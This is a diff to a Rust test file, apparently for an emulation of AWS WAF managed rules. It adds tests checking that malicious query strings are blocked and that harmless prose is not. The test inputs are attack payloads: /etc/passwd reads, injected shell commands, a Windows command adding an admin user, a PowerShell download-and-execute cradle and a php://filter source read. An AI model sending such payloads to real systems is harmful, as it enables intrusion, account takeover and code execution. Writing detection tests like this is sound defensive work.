@@ -108,7 +108,10 @@ fn every_group_fits_its_declared_capacity_and_compiles() {
             g.capacity
         );
     }
-    assert_eq!(all_groups().capacity(), 700 + 200 + 200 + 100 + 25 + 50);
+    assert_eq!(
+        all_groups().capacity(),
+        700 + 200 + 200 + 100 + 200 + 100 + 200 + 100 + 25 + 50
+    );
     assert!(managed_group(VENDOR, "AWSManagedRulesCommonRuleSet", Some("Version_9.9")).is_none());
     assert!(managed_group("Other", "AWSManagedRulesCommonRuleSet", None).is_none());
 }
@@ -240,6 +243,68 @@ fn admin_protection_and_ip_lists() {
         v.labels
             .contains(&"awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList".to_string())
     );
+}
+
+#[test]
+fn operating_system_and_php_rules() {
+    assert_eq!(
+        blocked_by(&browser("GET", "/download?f=/etc/passwd")).as_deref(),
+        Some("LFI_QUERYSTRING")
+    );
+    assert_eq!(
+        blocked_by(&browser(
+            "GET",
+            "/?host=127.0.0.1;cat%20/et%27c/pa%27ss%27wd"
+        ))
+        .as_deref(),
+        Some("LFI_QUERYSTRING")
+    );
+    assert_eq!(
+        blocked_by(&browser("GET", "/?ip=127.0.0.1%20%26%26%20ls%20-la")).as_deref(),
+        Some("UNIXShellCommandsVariables_QUERYARGUMENTS")
+    );
+    assert_eq!(
+        blocked_by(&browser("GET", "/?x=a$IFS$9b")).as_deref(),
+        Some("UNIXShellCommandsVariables_QUERYARGUMENTS")
+    );
+    assert_eq!(
+        blocked_by(&browser(
+            "GET",
+            "/?q=x%26%20net%20user%20admin%20p4ss%20/add"
+        ))
+        .as_deref(),
+        Some("WindowsShellCommands_QUERYARGUMENTS")
+    );
+    assert_eq!(
+        blocked_by(&browser(
+            "GET",
+            "/?c=IEX(New-Object%20Net.WebClient).DownloadString(%27http://x%27)"
+        ))
+        .as_deref(),
+        Some("PowerShellCommands_QUERYARGUMENTS")
+    );
+    assert_eq!(
+        blocked_by(&browser(
+            "GET",
+            "/?page=php://filter/convert.base64-encode/resource=index"
+        ))
+        .as_deref(),
+        Some("PHPHighRiskMethodsVariables_QUERYSTRING")
+    );
+    // Command words in prose are not commands.
+    for text in [
+        "echo+in+the+mirror",
+        "curl+and+divergence",
+        "bash+away+in+the+gym",
+        "ls+300+lexus",
+        "nc+8000+controller",
+    ] {
+        assert_eq!(
+            blocked_by(&browser("GET", &format!("/?q={text}"))),
+            None,
+            "{text}"
+        );
+    }
 }
 
 #[test]
